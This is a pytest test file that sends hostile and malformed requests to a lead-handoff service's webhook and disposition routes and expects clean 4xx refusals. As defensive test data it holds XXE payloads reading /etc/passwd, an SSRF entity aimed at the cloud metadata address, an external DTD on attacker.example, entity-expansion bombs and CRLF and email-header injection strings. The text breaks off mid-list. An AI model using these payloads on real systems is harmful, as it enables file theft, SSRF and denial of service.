"""A corpus of hostile and malformed requests against every HTTP route.

Each refusal must be a 4xx with a clear error (the JSON error body; a SOAP fault for
Salesforce; the small HTML page for one-click links), come back in well under two
seconds, and write nothing: no lead, execution, email or disposition, and no change to
a lead that already exists. The markup family is the exception: a signed lead carrying
HTML or script may be accepted, because text is stored as data and escaped on output,
so those cases check the escaping instead.

A case marked xfail(strict) is a known bug: the test asserts the correct behaviour.
"""

from __future__ import annotations

import base64
import copy
import email
import email.policy
import json
import re
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path
from typing import Any

import boto3
import pytest
from _pytest.mark.structures import ParameterSet

from handoff import runtime
from handoff.domain.lead import utcnow
from handoff.functions import DISPOSITION, QUALIFY, FunctionSpec, Route
from handoff.links import make_token
from handoff.local import lambdas
from handoff.local.http_front import build_event, match
from handoff.local.provision import table_name
from handoff.store.tables import DISPOSITIONS, REPS
from handoff.webhooks.hubspot_signature import sign_v1, sign_v2, sign_v3
from handoff.webhooks.signature import sign_generic
from tests.conftest import EXAMPLES, sample
from tests.integration.conftest import SECRETS, Aws, rep, use_config

MAX_BODY = 1024 * 1024  # settings().max_body_bytes
TOO_BIG = MAX_BODY + 1
FAST = 2.0  # seconds; hostile input must fail fast, never hang
GENERIC_SECRET = SECRETS["HANDOFF_GENERIC_SECRET"]
HUBSPOT_SECRET = SECRETS["HANDOFF_HUBSPOT_APP_SECRET"]
API_KEY = SECRETS["HANDOFF_API_KEY"]
LINK_KEY = SECRETS["HANDOFF_LINK_KEY"]
SF_TOKEN = SECRETS["HANDOFF_SALESFORCE_TOKEN"]
HUBSPOT_URI = "https://handoff.test/webhooks/hubspot"  # HANDOFF_PUBLIC_BASE_URL + the route
SALESFORCE = f"/webhooks/salesforce?token={SF_TOKEN}"
FORM = {"Content-Type": "application/x-www-form-urlencoded"}

LEAD = sample("01")
HUBSPOT_CONTACT = json.loads((EXAMPLES / "webhooks/hubspot/workflow-contact-demo-request.json").read_text())
HUBSPOT_EVENT = json.loads((EXAMPLES / "webhooks/hubspot/events-mql-and-creation.json").read_text())[0]
OUTBOUND = (EXAMPLES / "webhooks/salesforce/outbound-message-lead-and-contact.xml").read_text()
XML_DECL = '<?xml version="1.0" encoding="UTF-8"?>'
assert OUTBOUND.startswith(XML_DECL)

SCRIPT = "<script>alert(1)</script>"
JS_URL = "javascript:alert(1)"


# --- requests, answers and the "nothing written" snapshot ---------------------------------


@dataclass(frozen=True)
class Ctx:
    """What a case may refer to: the notified lead made before the baseline, if it needs one."""

    lead_id: str = ""

    def token(self, outcome: str = "connected", **claims: Any) -> str:
        values: dict[str, Any] = {"lead_id": self.lead_id, "rep_id": "r1", "outcome": outcome}
        key = claims.pop("key", LINK_KEY)
        now = claims.pop("now", utcnow())
        return make_token(key, now=now, ttl=timedelta(days=7), **(values | claims))


Headers = dict[str, str] | Callable[[bytes], dict[str, str]]


@dataclass(frozen=True)
class Case:
    method: str
    path: str | Callable[[Ctx], str]  # "{lead}" stands for the lead made before the baseline
    body: bytes | Callable[[Ctx], bytes] = b""
    headers: Headers = field(default_factory=dict)  # a callable signs the body at send time
    status: int | tuple[int, ...] = 400
    says: str | tuple[str, ...] = ""  # the message names what was wrong (any one of these)
    function: FunctionSpec | None = None  # for requests no route matches

    @property
    def needs_lead(self) -> bool:
        return callable(self.path) or callable(self.body) or "{lead}" in self.path


@dataclass(frozen=True)
class Answer:
    status: int
    content_type: str
    text: str
    seconds: float


def send(case: Case, ctx: Ctx) -> Answer:
    path = case.path(ctx) if callable(case.path) else case.path.replace("{lead}", ctx.lead_id)
    body = case.body(ctx) if callable(case.body) else case.body
    headers = case.headers(body) if callable(case.headers) else dict(case.headers)
    found = match(case.method, path.split("?", maxsplit=1)[0])
    if found is None:
        assert case.function, f"no route {case.method} {path}"
        found = (Route(case.method, path.split("?", maxsplit=1)[0], case.function), {})
    route, params = found
    event = build_event(route, params=params, method=case.method, raw_path=path, headers=headers, body=body)
    started = time.perf_counter()
    try:
        result = lambdas.invoke(route.function, event)
    except Exception as exc:  # what API Gateway turns an unhandled exception into
        return Answer(502, "crash", f"{type(exc).__name__}: {exc}"[:300], time.perf_counter() - started)
    seconds = time.perf_counter() - started
    out_headers = result.get("headers") or {
        k: v[0] for k, v in (result.get("multiValueHeaders") or {}).items()
    }
    text = result.get("body") or ""
    if result.get("isBase64Encoded"):
        text = base64.b64decode(text).decode()
    return Answer(int(result["statusCode"]), out_headers.get("Content-Type", ""), text, seconds)


def count(table: str) -> int:
    return int(boto3.client("dynamodb").scan(TableName=table_name(table), Select="COUNT")["Count"])


def snapshot(aws: Aws, lead_id: str) -> dict[str, Any]:
    """Everything a request could write."""
    return {
        "leads": aws.leads_count(),
        "executions": sorted((e["name"], e["status"]) for e in aws.executions()),
        "emails": len(aws.sent_emails()),
        "dispositions": count(DISPOSITIONS),
        "reps": sorted(
            boto3.client("dynamodb").scan(TableName=table_name(REPS))["Items"], key=lambda i: str(i)
        ),
        "lead": runtime.leads().get_item(lead_id) if lead_id else None,
    }


def assert_clear_refusal(case: Case, answer: Answer) -> None:
    """A 4xx whose body says what was wrong, in the format the caller reads."""
    shown = f"{answer.status} {answer.text[:300]}"
    assert 400 <= answer.status < 500, shown
    expected = case.status if isinstance(case.status, tuple) else (case.status,)
    assert answer.status in expected, shown
    path = case.path if isinstance(case.path, str) else "/d/"
    if path.startswith("/webhooks/salesforce"):
        assert answer.content_type.startswith("text/xml"), shown
        fault = re.search(r"<faultstring>(.*?)</faultstring>", answer.text, re.DOTALL)
        assert fault and fault.group(1).strip(), shown
        message = fault.group(1)
    elif path.startswith("/d/"):
        # The one-click pages answer a person in a browser: a small HTML page, not JSON.
        assert answer.content_type.startswith("text/html"), shown
        heading = re.search(r"<h1[^>]*>(.*?)</h1>\s*<p[^>]*>(.*?)</p>", answer.text, re.DOTALL)
        assert heading and heading.group(1).strip() and heading.group(2).strip(), shown
        message = heading.group(2)
        assert "<script" not in answer.text.lower(), shown  # nothing from the request is reflected raw
    else:
        assert answer.content_type.startswith("application/json"), shown
        body = json.loads(answer.text)
        assert set(body) == {"error", "message", "details"}, shown
        assert isinstance(body["error"], str) and body["error"], shown
        assert isinstance(body["message"], str) and body["message"].strip(), shown
        assert isinstance(body["details"], list), shown
        message = body["message"]
    fragments = case.says if isinstance(case.says, tuple) else (case.says,)
    assert any(f in message for f in fragments), f"{fragments} not in {message!r}"


# --- signing -------------------------------------------------------------------------------


def generic_signed(
    body: bytes, *, secret: str = GENERIC_SECRET, skew: int = 0, extra: str = ""
) -> dict[str, str]:
    return {
        "Content-Type": "application/json",
        "X-Handoff-Signature": sign_generic(secret, body, int(time.time()) + skew) + extra,
    }


def hubspot_signed(
    body: bytes,
    *,
    secret: str = HUBSPOT_SECRET,
    skew_ms: int = 0,
    uri: str = HUBSPOT_URI,
    signed_body: bytes | None = None,
) -> dict[str, str]:
    timestamp = str(int(time.time() * 1000) + skew_ms)
    signature = sign_v3(secret, "POST", uri, body if signed_body is None else signed_body, timestamp)
    return {
        "Content-Type": "application/json",
        "X-HubSpot-Signature-v3": signature,
        "X-HubSpot-Request-Timestamp": timestamp,
    }


def with_key(key: str = API_KEY) -> dict[str, str]:
    return {"Content-Type": "application/json", "x-api-key": key}


# --- payload builders ------------------------------------------------------------------------


def dumps(data: Any) -> bytes:
    return json.dumps(data).encode()


def lead_with(dotted: str, value: Any, base: dict[str, Any] = LEAD) -> dict[str, Any]:
    """The sample lead with one field (``a.b``, ``activities.0.title``) set; a ``...`` value drops it."""
    lead = copy.deepcopy(base)
    *parents, last = dotted.split(".")
    node: Any = lead
    for part in parents:
        node = node[int(part)] if isinstance(node, list) else node[part]
    key: Any = int(last) if isinstance(node, list) else last
    if value is ...:
        del node[key]
    else:
        node[key] = value
    return lead


def dig(data: Any, dotted: str) -> Any:
    for part in dotted.split("."):
        data = data[int(part)] if isinstance(data, list) else data[part]
    return data


def padded(body: bytes, size: int = TOO_BIG) -> bytes:
    """A body that is valid in every way but its size: JSON and XML allow trailing whitespace."""
    return body + b" " * (size - len(body))


def hubspot_with(prop: str, value: Any) -> dict[str, Any]:
    contact = copy.deepcopy(HUBSPOT_CONTACT)
    contact["properties"][prop] = {"value": value}
    return contact


def outbound(old: str = "", new: str = "", doctype: str = "") -> bytes:
    """The sample Outbound Message, with one text replacement and an optional DOCTYPE."""
    assert not old or old in OUTBOUND, old
    xml = OUTBOUND.replace(old, new, 1) if old else OUTBOUND
    return xml.replace(XML_DECL, XML_DECL + doctype, 1).encode()


def notifications(count: int) -> bytes:
    start = OUTBOUND.index("<Notification>")
    end = OUTBOUND.index("</Notification>") + len("</Notification>")
    one = OUTBOUND[start:end]
    many = "".join(one.replace("04l5g00000AAAA1AAA", f"04l5g0000{i:09d}") for i in range(count))
    return (OUTBOUND[:start] + many + OUTBOUND[OUTBOUND.rindex("</notifications>") :]).encode()


def nested(depth: int, opener: str = "[", closer: str = "]") -> bytes:
    return (opener * depth + closer * depth).encode()


def param(case_id: str, case: Case, bug: str | None = None) -> ParameterSet:
    marks = [pytest.mark.xfail(strict=True, reason=f"BUG: {bug}")] if bug else []
    return pytest.param(case, id=case_id, marks=marks)


def generic(
    case_id: str, body: bytes | dict[str, Any], says: str | tuple[str, ...], **kw: Any
) -> ParameterSet:
    bug = kw.pop("bug", None)
    data = body if isinstance(body, bytes) else dumps(body)
    return param(
        case_id,
        Case("POST", "/webhooks/generic", data, kw.pop("headers", generic_signed), says=says, **kw),
        bug,
    )


def hubspot(case_id: str, body: bytes | Any, says: str | tuple[str, ...], **kw: Any) -> ParameterSet:
    bug = kw.pop("bug", None)
    data = body if isinstance(body, bytes) else dumps(body)
    return param(
        case_id,
        Case("POST", "/webhooks/hubspot", data, kw.pop("headers", hubspot_signed), says=says, **kw),
        bug,
    )


def salesforce(case_id: str, body: bytes, says: str, **kw: Any) -> ParameterSet:
    bug = kw.pop("bug", None)
    path = kw.pop("path", SALESFORCE)
    headers = kw.pop("headers", {"Content-Type": "text/xml; charset=utf-8"})
    return param(case_id, Case("POST", path, body, headers, says=says, **kw), bug)


def dispose(
    case_id: str, body: bytes | dict[str, Any], says: str | tuple[str, ...], **kw: Any
) -> ParameterSet:
    bug = kw.pop("bug", None)
    data = body if isinstance(body, bytes) else dumps(body)
    path = kw.pop("path", "/leads/{lead}/disposition")
    return param(case_id, Case("POST", path, data, kw.pop("headers", with_key()), says=says, **kw), bug)


def link(
    case_id: str, method: str, token: Callable[[Ctx], str], status: int, says: str, **kw: Any
) -> ParameterSet:
    bug = kw.pop("bug", None)
    body = kw.pop("body", b"note=hostile" if method == "POST" else b"")
    path: Callable[[Ctx], str] = lambda ctx: f"/d/{token(ctx)}"  # noqa: E731
    return param(case_id, Case(method, path, body, kw.pop("headers", FORM), status, says, **kw), bug)


# --- the families ------------------------------------------------------------------------------

BUG_DISPOSITION_UTF8 = (
    "POST /leads/{id}/disposition with invalid UTF-8 crashes (UnicodeDecodeError in Powertools' "
    "json_body) instead of a 400"
)
BUG_DISPOSITION_DEPTH = (
    "POST /leads/{id}/disposition with deeply nested JSON crashes (RecursionError in Powertools' "
    "json_body; the route skips handoff.api.requests.parse_json and its depth limit) instead of a 400"
)
BUG_NO_SIZE_LIMIT = (
    "the disposition function has no body size limit (it never calls raw_body): a 1 MB+1 body is "
    "parsed and the disposition recorded instead of a 413"
)
BUG_HUGE_NUMBER = (
    "a number DynamoDB cannot hold (>38 digits or >1e125) passes validation and crashes the store "
    "(decimal.Inexact/Overflow in handoff.store.dynamo) instead of a 400 naming the field"
)


def json_syntax() -> Iterator[ParameterSet]:
    """Bodies that are not the JSON object the route reads."""
    truncated = dumps(LEAD)[:60]
    for name, body, says in [
        ("truncated", truncated, "not valid JSON"),
        ("trailing-garbage", dumps(LEAD) + b"}{", "not valid JSON"),
        ("utf8-bom", b"\xef\xbb\xbf" + dumps(LEAD), "not valid JSON"),
        ("single-quotes", b"{'event_id': 'e1'}", "not valid JSON"),
        ("nested-10000-arrays", nested(10_000), "nested deeper"),
        ("nested-10000-objects", b'{"a":' * 10_000 + b"1" + b"}" * 10_000, "nested deeper"),
        ("nested-33-in-a-field", dumps(lead_with("contact.x", json.loads(nested(33)))), "nested deeper"),
        ("array", dumps([LEAD]), "must be a JSON object, not list"),
        ("number", b"42", "must be a JSON object, not int"),
        ("string", b'"lead"', "must be a JSON object, not str"),
        ("null", b"null", "must be a JSON object, not NoneType"),
        ("true", b"true", "must be a JSON object, not bool"),
        ("empty-object", b"{}", "invalid lead: event_id, contact, trigger"),
        ("dup-key-last-wins-wrong-type", dumps(LEAD)[:-1] + b', "contact": "me"}', "contact"),
        (
            "dup-key-event-id-int",
            b'{"event_id": "e1", "event_id": 7,' + dumps(LEAD)[1:].replace(b'"event_id": "evt-1001", ', b""),
            "event_id",
        ),
    ]:
        yield generic(f"json-generic-{name}", body, says)
    for name, body, says in [
        ("truncated", dumps(HUBSPOT_CONTACT)[:80], "not valid JSON"),
        ("nested-10000-arrays", nested(10_000), "nested deeper"),
        ("nested-10000-objects", b'{"a":' * 10_000 + b"1" + b"}" * 10_000, "nested deeper"),
        ("number", b"42", "contact object or an event array, not int"),
        ("null", b"null", "contact object or an event array, not NoneType"),
        ("array-of-arrays", b"[[1]]", "invalid HubSpot event"),
        ("array-of-nulls", b"[null]", "invalid HubSpot event"),
        (
            "dup-key-properties",
            dumps(HUBSPOT_CONTACT)[:-1] + b', "properties": "oops"}',
            "properties must be an object",
        ),
    ]:
        yield hubspot(f"json-hubspot-{name}", body, says)
    for name, body, says, bug in [
        ("truncated", b'{"outcome": "conn', "invalid request", None),
        ("nested-10000-arrays", nested(10_000), "", BUG_DISPOSITION_DEPTH),
        ("nested-10000-objects", b'{"a":' * 10_000 + b"1" + b"}" * 10_000, "", BUG_DISPOSITION_DEPTH),
        ("array", b'[{"outcome": "connected"}]', "invalid request", None),
        ("string", b'"connected"', "invalid request", None),
        ("null", b"null", "invalid request", None),
        ("dup-key-outcome", b'{"outcome": "connected", "outcome": "won"}', "outcome must be one of", None),
    ]:
        yield dispose(f"json-disposition-{name}", body, says, bug=bug)


def non_finite_and_huge_numbers() -> Iterator[ParameterSet]:
    """NaN and Infinity are not JSON; numbers must fit what the store can hold."""
    bug_inf = (
        "NaN/Infinity literals are accepted (json.loads allows them; Company.annual_revenue has no upper "
        "bound): Infinity qualifies the lead ('Revenue inf is in the ICP range') and the lead is written"
    )
    for name, dotted, literal, says, bug in [
        ("score-nan", "score", "NaN", ("score", "JSON"), None),
        ("score-infinity", "score", "Infinity", ("score", "JSON"), None),
        ("revenue-nan", "company.annual_revenue", "NaN", ("annual_revenue", "JSON"), None),
        ("revenue-infinity", "company.annual_revenue", "Infinity", ("annual_revenue", "JSON"), bug_inf),
        ("employees-minus-infinity", "company.employees", "-Infinity", ("employees", "JSON"), None),
    ]:
        body = json.dumps(lead_with(dotted, "@@")).replace('"@@"', literal).encode()
        yield generic(f"number-generic-{name}", body, says, bug=bug)
    for name, dotted, literal, says in [
        ("employees-100-digits", "company.employees", "9" * 100, "employees"),
        ("employees-5000-digits", "company.employees", "9" * 5000, ("employees", "JSON")),
        ("revenue-1e300", "company.annual_revenue", "1e300", "annual_revenue"),
    ]:
        body = json.dumps(lead_with(dotted, "@@")).replace('"@@"', literal).encode()
        yield generic(f"number-generic-{name}", body, says, bug=BUG_HUGE_NUMBER)
    yield hubspot(
        "number-hubspot-employees-1e100",
        hubspot_with("numberofemployees", "1e100"),
        "employees",
        bug=BUG_HUGE_NUMBER,
    )
    yield salesforce(
        "number-salesforce-revenue-1e300",
        outbound("<sf:AnnualRevenue>42000000<", "<sf:AnnualRevenue>1e300<"),
        "annual_revenue",
        bug=BUG_HUGE_NUMBER,
    )
    yield dispose("number-disposition-outcome-nan", b'{"outcome": NaN}', "outcome")


def wrong_types() -> Iterator[ParameterSet]:
    """Well-formed JSON whose fields have the wrong type or an impossible value."""
    for name, dotted, value in [
        ("contact-string", "contact", "jordan@northwind.example"),
        ("contact-null", "contact", None),
        ("contact-missing", "contact", ...),
        ("email-number", "contact.email", 42),
        ("email-not-an-address", "contact.email", "jordan at northwind"),
        ("email-with-markup", "contact.email", f"{SCRIPT}@northwind.example"),
        ("email-header-injection", "contact.email", "jo@northwind.example\r\nBcc: all@corp.example"),
        ("email-list", "contact.email", ["a@northwind.example"]),
        ("employees-lots", "company.employees", "lots"),
        ("employees-negative", "company.employees", -5),
        ("employees-fraction", "company.employees", 3.5),
        ("revenue-string", "company.annual_revenue", "a lot"),
        ("company-array", "company", ["Northwind"]),
        ("activities-object", "activities", {"type": "page_view"}),
        ("activities-numbers", "activities", [1, 2]),
        ("activity-without-type", "activities.0.type", ...),
        ("activity-at-not-a-date", "activities.0.at", "last tuesday"),
        ("trigger-string", "trigger", "demo_request"),
        ("trigger-type-blank", "trigger.type", "   "),
        ("event-id-empty", "event_id", ""),
        ("event-id-object", "event_id", {"$ne": None}),
        ("occurred-at-not-a-date", "occurred_at", "9999-99-99"),
        ("score-negative", "score", -1),
        ("crm-string", "crm", "hubspot"),
        ("open-opportunity-maybe", "crm.open_opportunity", "maybe"),
        ("phone-65-chars", "contact.phone", "1" * 65),
    ]:
        yield generic(f"type-generic-{name}", lead_with(dotted, value), dotted.split(".")[0])
    no_canonical = {k: v for k, v in HUBSPOT_CONTACT.items() if k != "canonical-vid"}
    for name, body, says in [
        ("email-number", hubspot_with("email", 42), "contact.email"),
        ("email-list", hubspot_with("email", ["dana@tallyhq.example"]), "contact.email"),
        ("vid-object", {**no_canonical, "vid": {"$gt": 0}}, "no vid"),
        ("properties-array", {**HUBSPOT_CONTACT, "properties": []}, "properties must be an object"),
        ("event-id-object", [{**HUBSPOT_EVENT, "eventId": {"$gt": 0}}], "invalid HubSpot event"),
        ("event-occurred-at-text", [{**HUBSPOT_EVENT, "occurredAt": "yesterday"}], "occurredAt"),
        (
            "event-subscription-101-chars",
            [{**HUBSPOT_EVENT, "subscriptionType": "x" * 101}],
            "subscriptionType",
        ),
    ]:
        yield hubspot(f"type-hubspot-{name}", body, says)


def sizes() -> Iterator[ParameterSet]:
    """Too long, too many, too large."""
    big = "x" * 100_000
    for name, dotted, value in [
        ("title-100kb", "contact.title", big),
        ("trigger-name-100kb", "trigger.name", big),
        ("event-id-10kb", "event_id", "e" * 10_000),
        ("activity-url-100kb", "activities.0.url", "https://example.com/" + big),
        ("activities-201", "activities", [{"type": "page_view"}] * 201),
    ]:
        yield generic(f"size-generic-{name}", lead_with(dotted, value), dotted.split(".")[0])
    bug_item = (
        "a signed lead under 1 MB whose record exceeds DynamoDB's 400 KB item limit gets "
        "503 'retry' (the sender retries forever) instead of a 413/400"
    )
    yield generic(
        "size-generic-record-over-400kb",
        lead_with("activities", [{"type": "page_view", "url": "https://example.com/" + "a" * 2000}] * 200),
        ("too large", "limit", "activities"),
        status=(400, 413),
        bug=bug_item,
    )
    yield generic("size-generic-1mb-plus-1", padded(dumps(LEAD)), "limit", status=413)
    yield generic("size-generic-unsigned-1mb-plus-1", padded(dumps(LEAD)), "limit", status=413, headers={})
    yield hubspot("size-hubspot-1mb-plus-1", padded(dumps(HUBSPOT_CONTACT)), "limit", status=413)
    yield hubspot("size-hubspot-101-events", [HUBSPOT_EVENT] * 101, "1 to 100 events, not 101")
    yield hubspot("size-hubspot-email-100kb", hubspot_with("email", big + "@x.example"), "contact.email")
    yield salesforce("size-salesforce-1mb-plus-1", padded(outbound()), "limit", status=413)
    yield dispose(
        "size-disposition-1mb-plus-1",
        padded(b'{"outcome": "connected"}'),
        "limit",
        status=413,
        bug=BUG_NO_SIZE_LIMIT,
    )
    yield link(
        "size-link-post-1mb-plus-1",
        "POST",
        lambda ctx: ctx.token(),
        413,
        "limit",
        body=padded(b"note=hi&pad=", TOO_BIG - 1) + b"x",
        bug=BUG_NO_SIZE_LIMIT,
    )


BILLION_LAUGHS_PE = (
    '<!DOCTYPE lolz [<!ENTITY % a "lol"><!ENTITY % b "%a;%a;%a;%a;%a;%a;%a;%a;%a;%a;">'
    '<!ENTITY % c "%b;%b;%b;%b;%b;%b;%b;%b;%b;%b;"><!ENTITY lol "%c;">]>'
)


def xml_attacks() -> Iterator[ParameterSet]:
    """Entity expansion, external entities, wrong envelopes, non-XML, for the SOAP endpoint."""
    refused = "DTD or entities is refused"
    chain = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    billion = outbound("sam.rivera@meridian.example<", "&l9;<", f'<!DOCTYPE e [<!ENTITY l0 "lol">{chain}]>')
    quadratic = outbound(
        "<sf:FirstName>Sam<",
        "<sf:FirstName>" + "&a;" * 20_000 + "<",
        f'<!DOCTYPE e [<!ENTITY a "{"a" * 50_000}">]>',
    )
    for name, body, says in [
        ("billion-laughs-in-email", billion, refused),
        ("billion-laughs-parameter-entities", outbound(doctype=BILLION_LAUGHS_PE), refused),
        ("quadratic-blowup", quadratic, refused),
        (
            "xxe-passwd-in-email",
            outbound(
                "sam.rivera@meridian.example<",
                "&xxe;<",
                '<!DOCTYPE e [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
            ),
            refused,
        ),
        (
            "xxe-parameter-entity",
            outbound(doctype='<!DOCTYPE e [<!ENTITY % xxe SYSTEM "file:///etc/passwd"> %xxe;]>'),
            refused,
        ),
        (
            "xxe-ssrf-metadata",
            outbound(
                "<sf:FirstName>Sam<",
                "<sf:FirstName>&m;<",
                '<!DOCTYPE e [<!ENTITY m SYSTEM "http://169.254.169.254/latest/meta-data/">]>',
            ),
            refused,
        ),
        (
            "external-dtd-system",
            outbound(doctype='<!DOCTYPE soapenv:Envelope SYSTEM "http://attacker.example/evil.dtd">'),
            refused,
        ),
        (
            "external-dtd-public",
            outbound(doctype='<!DOCTYPE e PUBLIC "-//EVIL//DTD//EN" "file:///etc/passwd">'),
            refused,
        ),
        ("empty-doctype", outbound(doctype="<!DOCTYPE e []>"), refused),
        ("101-notifications", notifications(101), "1 to 100 notifications, not 101"),
        ("0-notifications", notifications(0), "1 to 100 notifications, not 0"),
        (
            "envelope-without-body",
            b'<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"/>',
            "SOAP Envelope",
        ),
        (
            "body-without-notifications",
            outbound("<notifications", "<other").replace(b"</notifications>", b"</other>"),
            "SOAP Envelope",
        ),
        (
            "bare-notifications",
            b"<notifications><OrganizationId>x</OrganizationId></notifications>",
            "SOAP Envelope",
        ),
        ("html-page", b"<html><body><h1>hi</h1></body></html>", "SOAP Envelope"),
        ("json-body", dumps(LEAD), "not well-formed XML"),
        ("plain-text", b"hello salesforce", "not well-formed XML"),
        ("whitespace-only", b"   \n ", "not well-formed XML"),
        ("nul-byte", outbound("Sam<", "S\x00am<"), "not well-formed XML"),
        ("unclosed-tags", outbound()[:400], "not well-formed XML"),
        ("nested-100000-elements", b"<a>" * 100_000 + b"</a>" * 100_000, "SOAP Envelope"),
        (
            "organization-id-missing",
            outbound("<OrganizationId>00D5g000004ABCDEAZ</OrganizationId>", ""),
            "OrganizationId",
        ),
        (
            "notification-without-id",
            outbound("<Id>04l5g00000AAAA1AAA</Id>", ""),
            "needs an Id and an sObject",
        ),
        ("sobject-account", outbound('xsi:type="sf:Lead"', 'xsi:type="sf:Account"'), "not Lead or Contact"),
        (
            "email-with-markup",
            outbound("sam.rivera@meridian.example<", "&lt;script&gt;@x.example<"),
            "contact.email",
        ),
    ]:
        yield salesforce(f"xml-salesforce-{name}", body, says)


def invalid_utf8() -> Iterator[ParameterSet]:
    """Bytes that are not UTF-8, on every POST route."""
    bad = dumps(LEAD).replace(b"Jordan", b"Jor\xffdan")
    yield generic("utf8-generic-bad-byte-in-name", bad, "not valid UTF-8")
    yield generic("utf8-generic-overlong-slash", b'{"event_id": "\xc0\xaf"}', "not valid UTF-8")
    yield generic("utf8-generic-surrogate-bytes", b'{"event_id": "\xed\xa0\x80"}', "not valid UTF-8")
    yield generic("utf8-generic-utf16-body", json.dumps(LEAD).encode("utf-16"), "not valid UTF-8")
    yield hubspot(
        "utf8-hubspot-bad-byte", dumps(HUBSPOT_CONTACT).replace(b"Dana", b"D\x80ana"), "not valid UTF-8"
    )
    yield salesforce(
        "utf8-salesforce-bad-byte", outbound().replace(b"Sam<", b"S\xffam<"), "not well-formed XML"
    )
    yield dispose(
        "utf8-disposition-bad-byte", b'{"outcome": "conn\xffected"}', "UTF-8", bug=BUG_DISPOSITION_UTF8
    )
    yield link(
        "utf8-link-post-bad-byte",
        "POST",
        lambda ctx: ctx.token(),
        400,
        "UTF-8",
        body=b"note=\xff\xfe",
        bug="POST /d/{token} with an invalid UTF-8 body crashes (UnicodeDecodeError in decoded_body) "
        "instead of a 400 page",
    )


def headers_and_content_types() -> Iterator[ParameterSet]:
    """Header injection, wrong or missing Content-Type, empty bodies."""
    crlf = "\r\nX-Injected: yes"
    body = dumps(LEAD)
    yield generic(
        "header-generic-crlf-in-signature",
        body,
        "does not match",
        status=401,
        headers=lambda b: generic_signed(b, extra=crlf),
    )
    yield generic(
        "header-generic-crlf-in-bearer",
        body,
        "bearer token is not valid",
        status=401,
        headers={"Authorization": f"Bearer {SECRETS['HANDOFF_GENERIC_TOKEN']}{crlf}"},
    )
    yield generic(
        "header-generic-nul-in-signature",
        body,
        "X-Handoff-Signature",
        status=401,
        headers=lambda b: generic_signed(b, extra="\x00"),
    )
    yield hubspot(
        "header-hubspot-crlf-in-timestamp",
        HUBSPOT_CONTACT,
        "X-HubSpot-Request-Timestamp",
        status=401,
        headers=lambda b: (
            (h := hubspot_signed(b))
            | {"X-HubSpot-Request-Timestamp": h["X-HubSpot-Request-Timestamp"] + crlf}
        ),
    )
    yield hubspot(
        "header-hubspot-crlf-in-signature",
        HUBSPOT_CONTACT,
        "does not match",
        status=401,
        headers=lambda b: (
            (h := hubspot_signed(b)) | {"X-HubSpot-Signature-v3": h["X-HubSpot-Signature-v3"] + crlf}
        ),
    )
    yield salesforce(
        "header-salesforce-crlf-in-token",
        outbound(),
        "token",
        status=401,
        path=f"{SALESFORCE}%0D%0AX-Injected:%20yes",
    )
    yield dispose(
        "header-disposition-crlf-in-api-key",
        {"outcome": "connected"},
        "x-api-key",
        status=401,
        headers=with_key(API_KEY + crlf),
    )
    multipart = b'--b\r\nContent-Disposition: form-data; name="lead"\r\n\r\n' + body + b"\r\n--b--\r\n"
    for name, content_type, data in [
        ("text-plain", "text/plain", b"Jordan Lee wants a demo"),
        ("multipart", "multipart/form-data; boundary=b", multipart),
        ("form-urlencoded", "application/x-www-form-urlencoded", b"event_id=e1&contact=jordan"),
        ("missing", "", b"event_id=e1"),
    ]:
        signed = (lambda ct: lambda b: generic_signed(b) | {"Content-Type": ct})(content_type)
        if not content_type:
            signed = lambda b: {k: v for k, v in generic_signed(b).items() if k != "Content-Type"}  # noqa: E731
        yield generic(f"content-type-generic-{name}", data, "not valid JSON", headers=signed)
    yield hubspot(
        "content-type-hubspot-multipart",
        multipart,
        "not valid JSON",
        headers=lambda b: hubspot_signed(b) | {"Content-Type": "multipart/form-data; boundary=b"},
    )
    yield salesforce(
        "content-type-salesforce-multipart",
        multipart,
        "not well-formed XML",
        headers={"Content-Type": "multipart/form-data; boundary=b"},
    )
    yield salesforce(
        "content-type-salesforce-json",
        dumps(LEAD),
        "not well-formed XML",
        headers={"Content-Type": "application/json"},
    )
    yield dispose(
        "content-type-disposition-form",
        b"outcome=connected",
        "invalid request",
        headers=with_key() | FORM,
    )
    yield generic("empty-generic-signed", b"", "body is empty")
    yield generic("empty-generic-unsigned", b"", "body is empty", headers={})
    yield hubspot("empty-hubspot", b"", "body is empty")
    yield salesforce("empty-salesforce", b"", "body is empty")
    yield dispose("empty-disposition", b"", "invalid request")


def bad_auth() -> Iterator[ParameterSet]:
    """Missing, wrong, stale and future credentials on every authenticated route."""
    body = dumps(LEAD)
    for name, headers, says in [
        ("none", {"Content-Type": "application/json"}, "missing X-Handoff-Signature"),
        ("garbage", {"X-Handoff-Signature": "garbage"}, "must look like"),
        ("empty-v1", {"X-Handoff-Signature": f"t={int(time.time())},v1="}, "must look like"),
        ("millisecond-timestamp", {"X-Handoff-Signature": "t=1700000000000,v1=ab"}, "must look like"),
        ("wrong-secret", lambda b: generic_signed(b, secret="wrong"), "does not match"),
        ("stale-10-minutes", lambda b: generic_signed(b, skew=-600), "replay window"),
        ("future-10-minutes", lambda b: generic_signed(b, skew=600), "replay window"),
        ("over-another-body", lambda b: generic_signed(b + b" "), "does not match"),
        (
            "timestamp-swapped",
            lambda b: {
                "X-Handoff-Signature": re.sub(
                    r"t=\d+", f"t={int(time.time()) - 1}", generic_signed(b)["X-Handoff-Signature"]
                )
            },
            "does not match",
        ),
        ("wrong-bearer", {"Authorization": "Bearer not-the-token"}, "bearer token is not valid"),
        (
            "basic-scheme",
            {"Authorization": "Basic " + base64.b64encode(b"a:b").decode()},
            "missing X-Handoff-Signature",
        ),
    ]:
        yield generic(f"auth-generic-{name}", body, says, status=401, headers=headers)
    contact = dumps(HUBSPOT_CONTACT)
    for name, headers, says in [
        ("none", {"Content-Type": "application/json"}, "missing X-HubSpot-Signature"),
        ("v3-wrong-secret", lambda b: hubspot_signed(b, secret="wrong"), "does not match"),
        ("v3-stale-10-minutes", lambda b: hubspot_signed(b, skew_ms=-600_000), "replay window"),
        ("v3-future-10-minutes", lambda b: hubspot_signed(b, skew_ms=600_000), "replay window"),
        (
            "v3-timestamp-seconds-text",
            lambda b: hubspot_signed(b) | {"X-HubSpot-Request-Timestamp": "now"},
            "milliseconds",
        ),
        ("v3-over-another-body", lambda b: hubspot_signed(b, signed_body=b"{}"), "does not match"),
        (
            "v3-other-uri",
